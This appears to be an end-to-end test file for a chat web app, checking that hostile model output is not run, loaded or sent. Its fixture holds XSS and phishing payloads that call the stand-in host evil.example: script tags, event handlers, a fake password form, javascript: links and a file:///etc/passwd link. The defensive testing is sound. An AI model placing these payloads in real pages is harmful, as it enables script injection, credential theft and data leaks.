import {ask, expect, test} from './fixtures.ts'
import {lastMessage} from './support/chat-page.ts'
import {long} from './support/full-run.ts'

/**
 * Texts that a model may be talked into writing. `watch` fails the test on any request to another origin or CSP report.
 */
const attacks = [
  '<script>window.pwned = 1</script>',
  '<img src="https://evil.example/pixel.png" onerror="window.pwned = 2">',
  '<svg onload="window.pwned = 3"></svg><iframe src="https://evil.example/"></iframe>',
  '<form action="https://evil.example/"><input name="password"><button>Sign in again</button></form>',
  '<style>body { background: url(https://evil.example/style) }</style>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '',
  '![remote](https://evil.example/remote.png)',
  '![data](data:image/svg+xml,<svg onload=alert(1)>)',
  '![relative](/api/secret "title")',
  '',
  '[script](javascript:window.pwned=4) [spaced]( java\tscript:window.pwned=5 ) [vb](vbscript:x)',
  '[data](data:text/html,<script>window.pwned=6</script>) [file](file:///etc/passwd)',
  '[https://bank.example](https://evil.example/login)',
  '<javascript:window.pwned=7> <https://evil.example/auto> evil.example/bare',
  '',
  '[reference][r]',
  '',
  '[r]: javascript:window.pwned=8',
  '',
  '```html',
  '<script>window.pwned = 9</script>',
  '```',
  '',
  '$\\href{javascript:window.pwned=10}{x}$ $\\includegraphics{https://evil.example/tex.png}$',
  '',
  'The end of the attacks.',
].join('\n')

test('nothing a model writes is executed, loaded or sent', async ({chat, modelServer, watch}) => {
  modelServer.answer(attacks)
  await ask(chat, 'Attack me')
  const answer = lastMessage(chat)
  await expect(answer).toContainText('The end of the attacks.')
  await expect(chat.getByRole('button', {name: 'Stop'})).toHaveCount(0)

  const dangerous =
    'script, iframe, form, style, base, meta, object, embed, input:not([type="checkbox"]), img[src*="evil"]'
  await expect(answer.locator(dangerous)).toHaveCount(0)
  const handlers = await answer.evaluate((element) =>
    [...element.querySelectorAll('*')].flatMap((each) =>
      each.getAttributeNames().filter((name) => name.startsWith('on') || name === 'srcdoc'),
    ),
  )
  expect(handlers).toEqual([])
  const links = await answer.getByRole('link').evaluateAll((all) =>
    all.map((link) => ({
      protocol: link instanceof HTMLAnchorElement ? link.protocol : '',
      rel: link.getAttribute('rel'),
      target: link.getAttribute('target'),
    })),
  )
  expect(links.length).toBeGreaterThan(0)
  for (const link of links) {
    expect(['https:', 'http:', 'mailto:']).toContain(link.protocol)
    expect(link.rel).toContain('noopener')
  }
  expect(await chat.evaluate(() => 'pwned' in window)).toBe(false)

  // only now is the other host asked, in a page of its own that knows nothing of this one
  watch.allow('https://evil.example')
  await chat.context().route('https://evil.example/**', (route) => route.fulfill({body: 'elsewhere'}))
  const [opened] = await Promise.all([
    chat.waitForEvent('popup'),
    answer.getByRole('link', {name: 'Open at evil.example'}).first().click(),
  ])
  await expect(opened.locator('body')).toHaveText('elsewhere')
  expect(await opened.evaluate(() => [window.opener === null, document.referrer])).toEqual([true, ''])
  await expect(answer.locator('img[src*="evil"]')).toHaveCount(0)
})

test('a link that names another host than it leads to shows where it leads', long, async ({chat, modelServer}) => {
  modelServer.answer('Go to [https://bank.example](https://evil.example/login) now.')
  await ask(chat, 'Link')
  await expect(lastMessage(chat)).toContainText('evil.example')
})

test('what the user writes is text, never Markdown or HTML', long, async ({chat, modelServer}) => {
  modelServer.answer('ok')
  const question = '<img src=https://evil.example/q.png onerror=alert(1)> **not bold** [x](javascript:1)'
  await ask(chat, question)
  await expect(lastMessage(chat)).toContainText('ok')
  const said = chat.getByRole('log').getByRole('article').first()
  await expect(said).toContainText(question)
  await expect(said.locator('img, strong, a')).toHaveCount(0)
})

test('code is coloured by a worker, which hostile code does not stop for the next block', async ({
  chat,
  modelServer,
}) => {
  const fence = '```'
  modelServer.answer(
    `${fence}html\n${'<a '.repeat(5_000)}\n${fence}\n\n${fence}ts\nconst foo = 1\n${fence}\n\nThe end.`,
  )
  await ask(chat, 'Colours')
  await expect(lastMessage(chat)).toContainText('The end.')
  await expect(lastMessage(chat).locator('[data-scope=keyword]', {hasText: 'const'})).toBeVisible()
  expect(
    chat
      .workers()
      .map((worker) => new URL(worker.url()).pathname)
      .sort(),
  ).toEqual([
    expect.stringMatching(/^\/assets\/highlight\.worker-/),
    expect.stringMatching(/^\/assets\/streams\.worker-/),
  ])
})

test('a line of a megabyte stands in pieces, and the browser lays out those near the screen alone', async ({
  chat,
  modelServer,
}) => {
  modelServer.answer(`${'x'.repeat(1_000_000)}\n\nThe end.`)
  await ask(chat, 'A long line')
  await expect(lastMessage(chat)).toContainText('The end.')
  await expect(chat.getByRole('button', {name: 'Stop'})).toHaveCount(0)
  const pieces = await lastMessage(chat).evaluate((message) => {
    const texts = document.createTreeWalker(message, NodeFilter.SHOW_TEXT)
    const found: {length: number; isLazy: boolean}[] = []
    while (texts.nextNode()) {
      const {textContent, parentElement} = texts.currentNode
      if (textContent === null || parentElement === null || textContent.length < 1_000) continue
      const isLazy = getComputedStyle(parentElement).contentVisibility === 'auto'
      found.push({length: textContent.length, isLazy})
    }
    return found
  })
  expect(pieces.reduce((sum, {length}) => sum + length, 0)).toBe(1_000_000)
  expect(Math.max(...pieces.map(({length}) => length))).toBeLessThanOrEqual(4_000)
  expect(pieces.filter(({isLazy}) => !isLazy)).toEqual([])
})
